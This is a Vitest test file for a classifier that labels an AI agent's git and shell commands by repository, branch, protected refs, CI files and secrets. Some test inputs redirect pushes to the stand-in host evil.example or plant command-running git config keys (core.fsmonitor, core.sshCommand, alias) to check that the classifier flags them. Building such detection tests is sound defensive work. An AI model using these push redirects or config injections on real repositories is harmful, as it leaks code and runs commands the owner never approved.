import { appendFileSync, existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { createClassifier } from '../../src/classify/create-classifier.ts'
import type { ServerKey } from '../../src/core/ids.ts'
import type { JsonObject } from '../../src/core/json.ts'
import type { Operation } from '../../src/core/operation.ts'
import { GitChangedPaths } from '../../src/server/git-changed-paths.ts'
import { GitRepository } from '../support/git-repository.ts'

let repository: GitRepository
beforeEach(() => {
  repository = new GitRepository()
})
afterEach(() => repository.remove())

async function call(server: string, tool: string, input: JsonObject): Promise<readonly Operation[]> {
  const classifier = createClassifier({
    servers: new Map([['fs' as ServerKey, { catalogue: 'filesystem' }]]),
    control: { folders: [], files: [], ports: [] },
    home: repository.home,
    agents: 'shipped',
    changedPaths: new GitChangedPaths(),
  })
  const correlation = { requestId: '1' }
  const found = classifier.classify(
    {
      door: 'mcp',
      kind: 'tool',
      server: server as ServerKey,
      tool,
      arguments: input,
      fileSystem: 'shared',
      correlation,
    },
    { workspace: repository.root },
  )
  return (await classifier.complete(found)).operations.slice(1)
}

/** Operations of a command as `action resource of repository [labels] ?`. */
async function run(command: string): Promise<string[]> {
  return (await call('claude-code', 'Bash', { command })).map(textOf)
}

function textOf({ action, resource, labels, opaque }: Operation): string {
  const of = resource.ancestors.find(({ type }) => type === 'Repository')?.id
  const named = of === undefined ? resource.id : `${resource.id} of ${of}`
  return `${action} ${named}${labels.length === 0 ? '' : ` [${labels.join(' ')}]`}${opaque ? ' ?' : ''}`
}

describe('R-CLS-1: what belongs to which repository', () => {
  test('files and git speak of the repository as the forge does', async () => {
    expect(await run('git commit -m x')).toEqual(['git.commit acme/shop'])
    expect(await run('cat src/a.ts')).toEqual(['file.read src/a.ts of acme/shop [source]'])
    expect((await call('fs', 'read_text_file', { path: 'src/a.ts' })).map(textOf)).toEqual([
      'file.read src/a.ts of acme/shop [source]',
    ])
    expect(await run('git fetch')).toEqual(['git.fetch acme/shop'])
  })

  test('a repository inside another one is its own', async () => {
    const inner = join(repository.root, 'vendor/x')
    repository.git('init', '-q', inner)
    writeFileSync(join(inner, 'a.ts'), '')
    expect(await run('cat vendor/x/a.ts')).toEqual(['file.read vendor/x/a.ts of vendor/x [source]'])
    repository.git('-C', inner, 'remote', 'add', 'origin', 'https://evil.example/x')
    expect(await run('cat vendor/x/a.ts')).toEqual(['file.read vendor/x/a.ts of evil.example/x [source]'])
  })

  test('a working tree of the same repository has its name', async () => {
    repository.git('worktree', 'add', '-q', 'trees/feat', '-b', 'feat')
    expect(await run('git -C trees/feat commit -m x')).toContain('git.commit acme/shop')
    expect(await run('git -C trees/feat push')).toContain('git.push feat of acme/shop')
  })

  test('settings are read anew when they change, and rewritten addresses followed', async () => {
    expect(await run('git fetch')).toEqual(['git.fetch acme/shop'])
    repository.git('config', 'url.https://git.acme.example/.insteadOf', 'git@github.com:')
    expect(await run('git fetch')).toEqual(['git.fetch git.acme.example/Acme/Shop'])
    repository.git('config', 'url.git@gitlab.com:.pushInsteadOf', 'git@github.com:')
    repository.commit({ 'b.ts': '' })
    expect(await run('git push origin main')).toEqual(['git.push main of acme/shop [protected]'])
    repository.git('config', 'remote.origin.pushurl', 'https://evil.example/x')
    expect(await run('git push origin main')).toEqual(['git.push main of evil.example/x [protected]'])
    repository.git('config', '--add', 'remote.origin.pushurl', 'https://github.com/acme/shop')
    expect(await run('git push origin main')).toEqual(['git.push main of ? [protected] ?'])
  })

  test('the user’s settings count; what they include on a condition makes the place unknown', async () => {
    writeFileSync(join(repository.home, '.gitconfig'), '[include]\n\tpath = more\n')
    writeFileSync(
      join(repository.home, 'more'),
      '[url "https://b.example/"]\n\tinsteadOf = git@github.com:\n',
    )
    expect(await run('git fetch')).toEqual(['git.fetch b.example/Acme/Shop'])
    writeFileSync(join(repository.home, '.gitconfig'), '[includeIf "onbranch:x"]\n\tpath = more\n')
    expect(await run('git fetch')).toEqual(['git.fetch ? ?'])
    expect(await run('cat src/a.ts')).toEqual(['file.read src/a.ts [source]'])
    writeFileSync(join(repository.home, 'more'), '[user]\n\tname = a\n')
    expect(await run('git fetch')).toEqual(['git.fetch acme/shop'])
  })

  test.each([
    ['gitdir:~/shop/', true],
    ['gitdir:~/', true],
    ['gitdir:shop/', true],
    ['gitdir:**/shop/.git', true],
    ['gitdir/i:~/SHOP/', true],
    ['gitdir:~/SHOP/', false],
    ['gitdir:~/shop', false],
    ['gitdir:~/work/', false],
    ['gitdir:/nowhere/*/', false],
  ] as const)('%s is %s here, as git has it', async (condition, holds) => {
    writeFileSync(join(repository.home, '.gitconfig'), `[includeIf "${condition}"]\n\tpath = more\n`)
    writeFileSync(
      join(repository.home, 'more'),
      '[url "https://b.example/"]\n\tinsteadOf = git@github.com:\n',
    )
    const url = repository.git('ls-remote', '--get-url', 'origin').trim()
    expect(url.startsWith('https://b.example/')).toBe(holds)
    expect(await run('git fetch')).toEqual([holds ? 'git.fetch b.example/Acme/Shop' : 'git.fetch acme/shop'])
  })

  test('a folder that git would take for a repository, with settings of its own, is not understood', async () => {
    const bare = join(repository.root, 'fixture')
    for (const folder of ['objects', 'refs']) mkdirSync(join(bare, folder), { recursive: true })
    writeFileSync(join(bare, 'HEAD'), 'ref: refs/heads/main\n')
    expect(await run('cd fixture && git status')).toContain('git.read . ?')
  })

  test.each([
    'git -c remote.origin.url=https://evil.example/x push origin main',
    'GIT_DIR=/tmp/x git push origin main',
    'git --git-dir=/tmp/x push origin main',
    'GIT_CONFIG_COUNT=1 git push origin main',
  ])('%s is opaque', async (command) => {
    expect((await call('claude-code', 'Bash', { command })).some(({ opaque }) => opaque)).toBe(true)
  })
})

describe('R-CLS-1: which branch a push changes', () => {
  test.each<[string, string[]]>([
    ['git push', ['git.push feat of acme/shop']],
    ['git push origin', ['git.push feat of acme/shop']],
    ['git push origin HEAD', ['git.push feat of acme/shop']],
    ['git push origin @', ['git.push feat of acme/shop']],
    ['git push origin feat', ['git.push feat of acme/shop']],
    ['git push origin HEAD:main', ['git.push main of acme/shop [protected]']],
    ['git push origin HEAD~0:refs/heads/x', ['git.push x of acme/shop']],
    ['git push origin +feat', ['git.push feat of acme/shop', 'git.rewrite feat of acme/shop']],
    ['git push -f', ['git.push feat of acme/shop', 'git.rewrite feat of acme/shop']],
    ['git push origin :old', ['git.push old of acme/shop', 'git.delete old of acme/shop']],
    ['git push -d origin old', ['git.push old of acme/shop', 'git.delete old of acme/shop']],
    ['git push origin v1', ['git.push v1 of acme/shop [protected]']],
    ['git push origin tag v1', ['git.push v1 of acme/shop [protected]']],
    ['git push origin both', ['git.push both of acme/shop ?']],
    ['git push origin nothing', ['git.push nothing of acme/shop ?']],
    ['git push --all', ['git.push ? of acme/shop [protected] ?']],
    ['git push --tags', ['git.push ? of acme/shop [protected] ?']],
    [
      'git push --follow-tags origin feat',
      ['git.push ? of acme/shop [protected] ?', 'git.push feat of acme/shop'],
    ],
    ['git push origin HEAD:refs/for/main', ['git.push refs/for/main of acme/shop [protected]']],
    ['git push elsewhere feat', ['git.push feat of ? ?']],
    ['git push -o merge_request.create origin feat', ['git.push feat of acme/shop', 'pr.open acme/shop']],
    ['git push -o ci.skip origin feat', ['git.push feat of acme/shop', 'control.weaken acme/shop']],
  ])('%s', async (command, expected) => {
    repository.git('switch', '-q', '-c', 'feat')
    repository.commit({ 'src/b.ts': '' })
    repository.git('tag', 'v1')
    repository.git('tag', 'both')
    repository.git('branch', 'both')
    expect(await run(command)).toEqual(expected)
  })

  test('settings say what a push without refs is', async () => {
    repository.git('switch', '-q', '-c', 'feat')
    repository.git('config', 'branch.feat.remote', 'origin')
    repository.git('config', 'branch.feat.merge', 'refs/heads/main')
    expect(await run('git push')).toEqual(['git.push ? of acme/shop [protected] ?'])
    repository.git('config', 'push.default', 'upstream')
    expect(await run('git push')).toEqual(['git.push main of acme/shop [protected]'])
    expect(await run('git push origin feat')).toEqual(['git.push main of acme/shop [protected]'])
    repository.git('config', 'push.default', 'current')
    expect(await run('git push')).toEqual(['git.push feat of acme/shop'])
    repository.git('config', 'push.default', 'matching')
    expect(await run('git push')).toEqual(['git.push ? of acme/shop [protected] ?'])
    repository.git('config', 'remote.origin.push', 'refs/heads/*:refs/heads/*')
    expect(await run('git push origin feat')).toEqual(['git.push ? of acme/shop [protected] ?'])
    repository.git('checkout', '-q', '--detach')
    repository.git('config', '--unset', 'remote.origin.push')
    repository.git('config', 'push.default', 'simple')
    expect(await run('git push')).toEqual(['git.push ? of acme/shop [protected] ?'])
  })

  test.each<[string, string]>([
    ['git commit -qm x && git push origin feat', 'git.push feat of acme/shop ?'],
    ['git commit -qm x; git push', 'git.push feat of acme/shop ?'],
    ['git switch main && git push', 'git.push ? of ? [protected] ?'],
    ['git checkout main && git push origin HEAD', 'git.push ? of acme/shop [protected] ?'],
    ['git remote set-url origin https://evil.example/x; git push origin feat', 'git.push feat of ? ?'],
    ['git branch -f feat HEAD~1 && git push origin feat', 'git.push feat of acme/shop ?'],
    ['git push origin +feat feat', 'git.push feat of acme/shop'],
    ['git remote set-url origin https://evil.example/x; gh pr merge 1', 'pr.merge ?#1 of ? ?'],
  ])('%s: what comes before it in the same line is not there yet', async (command, expected) => {
    repository.git('switch', '-q', '-c', 'feat')
    repository.commit({ 'src/b.ts': '' })
    expect((await run(command)).at(-1)).toBe(expected)
  })

  test('the remote that the settings name', async () => {
    repository.git('remote', 'add', 'fork', 'https://github.com/me/shop')
    repository.git('config', 'remote.pushDefault', 'fork')
    repository.git('switch', '-q', '-c', 'feat')
    expect(await run('git push')).toEqual([expect.stringMatching(/^git\.push feat of me\/shop/)])
    repository.git('config', 'branch.feat.pushRemote', 'origin')
    expect(await run('git push')).toEqual(['git.push feat of acme/shop'])
    expect(await run('git fetch --all')).toEqual(['git.fetch acme/shop', 'git.fetch me/shop'])
  })
})

describe('R-CLS-1: a push carries the labels of every path in its commits', () => {
  const workflow = '.github/workflows/ci.yml'

  test('also of what a later commit takes back, and not of what the remote has', async () => {
    repository.git('switch', '-q', '-c', 'feat')
    repository.commit({ [workflow]: 'on: push', '.env': 'A=b' })
    repository.git('rm', '-q', '.env')
    repository.commit({})
    expect(await run('git push origin feat')).toEqual([
      expect.stringMatching(/^git\.push feat of acme\/shop \[(ci secret|secret ci)\]$/),
    ])
    repository.git('update-ref', 'refs/remotes/origin/feat', 'feat')
    repository.commit({ 'package-lock.json': '{}' })
    expect(await run('git push')).toEqual(['git.push feat of acme/shop [lockfile]'])
    repository.git('pack-refs', '--all')
    expect(await run('git push origin HEAD:main')).toEqual([
      'git.push main of acme/shop [protected lockfile]',
    ])
  })

  test('a merge of what the remote has brings no labels; one that changes on its own does', async () => {
    repository.git('switch', '-q', '-c', 'feat')
    repository.commit({ 'src/b.ts': '' })
    repository.git('switch', '-q', 'main')
    repository.commit({ [workflow]: 'on: push' })
    repository.git('update-ref', 'refs/remotes/origin/main', 'main')
    repository.git('switch', '-q', 'feat')
    repository.git('merge', '-q', '--no-ff', '-m', 'merge', 'main')
    expect(await run('git push origin feat')).toEqual(['git.push feat of acme/shop'])
    writeFileSync(join(repository.root, workflow), 'on: pull_request_target')
    repository.git('commit', '-q', '-a', '--amend', '--no-edit')
    expect(await run('git push origin feat')).toEqual(['git.push feat of acme/shop [ci]'])
  })

  test('without tracking refs everything is pushed', async () => {
    repository.git('remote', 'add', 'fork', 'https://github.com/me/shop')
    repository.commit({ [workflow]: 'on: push' })
    expect(await run('git push fork main')).toEqual(['git.push main of me/shop [protected ci]'])
    expect(await run('git push https://github.com/acme/shop main')).toContain(
      'git.push main of acme/shop [protected ci]',
    )
  })

  test('nothing that the repository says is run, and replaced objects hide nothing', async () => {
    repository.git('switch', '-q', '-c', 'feat')
    repository.commit({ [workflow]: 'on: push' })
    const head = repository.git('rev-parse', 'HEAD').trim()
    repository.git('replace', head, 'main')
    const mark = join(repository.home, 'ran')
    for (const [name, value] of [
      ['core.fsmonitor', `touch ${mark}`],
      ['core.pager', `touch ${mark}`],
      ['diff.external', `touch ${mark}`],
      ['diff.x.textconv', `touch ${mark}`],
      ['core.sshCommand', `touch ${mark}`],
      ['remote.origin.promisor', 'true'],
      ['log.showSignature', 'true'],
      ['gpg.program', `touch ${mark}`],
      ['alias.log', `!touch ${mark}`],
    ] as const)
      repository.git('config', name, value)
    appendFileSync(join(repository.root, '.git/info/attributes'), '* diff=x filter=x\n')
    expect(await run('git push origin feat')).toEqual(['git.push feat of acme/shop [ci]'])
    expect(existsSync(mark)).toBe(false)
  })

  test('objects that are missing leave it opaque', async () => {
    repository.git('switch', '-q', '-c', 'feat')
    writeFileSync(join(repository.root, '.git/refs/heads/feat'), `${'1'.repeat(40)}\n`)
    expect(await run('git push origin feat')).toEqual(['git.push feat of acme/shop ?'])
  })
})
